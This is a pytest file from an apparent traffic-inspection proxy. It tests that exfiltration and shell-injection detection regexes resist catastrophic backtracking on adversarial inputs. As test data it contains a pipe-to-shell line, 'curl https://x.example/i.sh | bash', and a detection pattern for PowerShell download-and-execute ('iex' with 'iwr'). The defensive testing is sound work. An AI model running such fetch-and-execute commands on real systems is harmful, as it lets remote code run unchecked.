"""Every rule stays linear on adversarial input of max_scan_bytes (SPEC.md section 5).

Python's re backtracks, so a careless regex turns a 256 KiB body into minutes of CPU
inside the proxy. For every rule we build near-match inputs from its own positive samples
(a match cut short and repeated, a match prefix followed by a flood of the character that
would continue it, its keywords repeated) and require each scan, validators included, to
finish under a generous bound. The engine as a whole gets the worst of them too.
"""

from __future__ import annotations

import functools
import time

import pytest

import test_rules_exfil
import test_rules_injection
from traffic_guardian.detect.engine import Engine
from traffic_guardian.detect.exchange import Exchange
from traffic_guardian.detect.rules import RULESET, Rule

MAX_SCAN_BYTES = 262144
RULE_BOUND_SECS = 2.0  # per input, per rule: a hang guard, not a benchmark
ENGINE_BOUND_SECS = 10.0  # all rules and decoded views over one 256 KiB body
PROBE_CHARS = 32768
PROBE_BOUND_SECS = 0.2  # linear rules scan 32 KiB in under 25 ms; the quadratic self-test takes 0.45 s on a fast host


def _samples() -> dict[str, list[str]]:
    samples: dict[str, list[str]] = {}
    for rule_id, make in test_rules_exfil.POSITIVES:
        samples.setdefault(rule_id, []).append(make())
    for rule_id, text in test_rules_injection.POSITIVES:
        samples.setdefault(rule_id, []).append(text)
    return samples


SAMPLES = _samples()


def _fill(unit: str, size: int = MAX_SCAN_BYTES) -> str:
    return (unit * (size // max(1, len(unit)) + 1))[:size]


def adversarial_inputs(rule: Rule) -> dict[str, str]:
    """Near-match inputs of exactly max_scan_bytes for one rule."""
    inputs: dict[str, str] = {}
    for index, sample in enumerate(SAMPLES.get(rule.rule_id, [])[:2]):
        for percent in (40, 99):
            cut = max(1, len(sample) * percent // 100)
            inputs[f"s{index}-cut{percent}-repeated"] = _fill(sample[:cut])
            follow = sample[cut] if cut < len(sample) else sample[-1]
            inputs[f"s{index}-cut{percent}-flood"] = (sample[:cut] + follow * MAX_SCAN_BYTES)[:MAX_SCAN_BYTES]
            inputs[f"s{index}-cut{percent}-newlines"] = _fill(sample[:cut] + "\n")
        inputs[f"s{index}-whole-repeated"] = _fill(sample + " ")
        inputs[f"s{index}-whole-glued"] = _fill(sample)
    for keyword in rule.keywords[:3]:
        inputs[f"kw[{keyword}]-spaced"] = _fill(keyword + " ")
        inputs[f"kw[{keyword}]-glued"] = _fill(keyword)
        inputs[f"kw[{keyword}]-then-run"] = (keyword + "a0" * MAX_SCAN_BYTES)[:MAX_SCAN_BYTES]
        inputs[f"kw[{keyword}]-then-spaces"] = (keyword + " " * MAX_SCAN_BYTES)[:MAX_SCAN_BYTES]
    for char in " /-a\\":
        inputs[f"flood[{char!r}]"] = char * MAX_SCAN_BYTES
    return inputs


def timed_scan(rule: Rule, text: str) -> float:
    start = time.perf_counter()
    for match in rule.compiled.finditer(text):
        if rule.validate is not None:
            rule.validate(match, text)
    return time.perf_counter() - start


@functools.cache
def rule_timings(rule: Rule) -> dict[str, float]:
    """Seconds per adversarial input; cached so the engine test reuses the per-rule run.

    Each input is first tried at 32 KiB: a quadratic regex already shows there (1/64 of
    its full-size cost) and is reported as infinitely slow instead of hanging the suite.
    """
    timings = {}
    for name, text in adversarial_inputs(rule).items():
        if timed_scan(rule, text[:PROBE_CHARS]) > PROBE_BOUND_SECS:
            timings[name] = float("inf")
        else:
            timings[name] = timed_scan(rule, text)
    return timings


@pytest.mark.parametrize("rule", RULESET, ids=[rule.rule_id for rule in RULESET])
def test_rule_is_linear_on_adversarial_input(rule):
    slow = {name: round(elapsed, 2) for name, elapsed in rule_timings(rule).items() if elapsed > RULE_BOUND_SECS}
    assert slow == {}, f"{rule.rule_id} is not linear on: {slow}"


def test_every_engine_rule_has_samples_for_its_adversarial_inputs():
    """Rules of this file's scope (EXFIL and the shell INJECTION patterns) are probed from real samples."""
    scoped = {rule.rule_id for rule in RULESET
              if rule.threat_type == "EXFIL" or rule.pattern in test_rules_injection.INJECTION_PATTERNS}
    assert scoped - set(SAMPLES) == set()


@pytest.mark.parametrize("rule", RULESET, ids=[rule.rule_id for rule in RULESET])
def test_engine_handles_the_worst_adversarial_body_for_each_rule(rule):
    inputs = adversarial_inputs(rule)
    timings = rule_timings(rule)
    worst = max(timings, key=timings.get)
    engine = Engine(max_scan_bytes=MAX_SCAN_BYTES)
    exchange = Exchange(direction=rule.direction, dest="adversary.example:443", body=inputs[worst],
                        url="https://adversary.example/" + inputs[worst][:2048])
    start = time.perf_counter()
    findings = engine.scan(exchange)
    elapsed = time.perf_counter() - start
    assert elapsed < ENGINE_BOUND_SECS, f"{rule.rule_id}: engine took {elapsed:.2f}s on {worst}"
    assert len(findings) <= 50


def test_engine_cuts_each_part_to_max_scan_bytes():
    """A body far beyond the bound costs no more than the bound: the tail is never read, and
    that it was not read is said (scan_incomplete, test_scan_incomplete.py)."""
    engine = Engine(max_scan_bytes=4096)
    body = "a" * 4096 + " curl https://x.example/i.sh | bash"
    found = engine.scan(Exchange(direction="inbound", dest="x.example:443", body=body))
    assert [(f.pattern, f.bytes_total, f.bytes_scanned) for f in found] == [("scan_incomplete", len(body), 4096)]


def test_the_probe_reports_a_quadratic_regex_instead_of_hanging():
    """Self-test of this file: the shape powershell_download_exec had before it went possessive."""
    quadratic = Rule(pattern="probe", variant="quadratic", threat_type="INJECTION", direction="inbound",
                     severity="info", description="two adjacent blank runs", regex=r"iex[ \t]*\(?[ \t]*iwr",
                     keywords=("iex",))
    assert rule_timings(quadratic)["kw[iex]-then-spaces"] == float("inf")
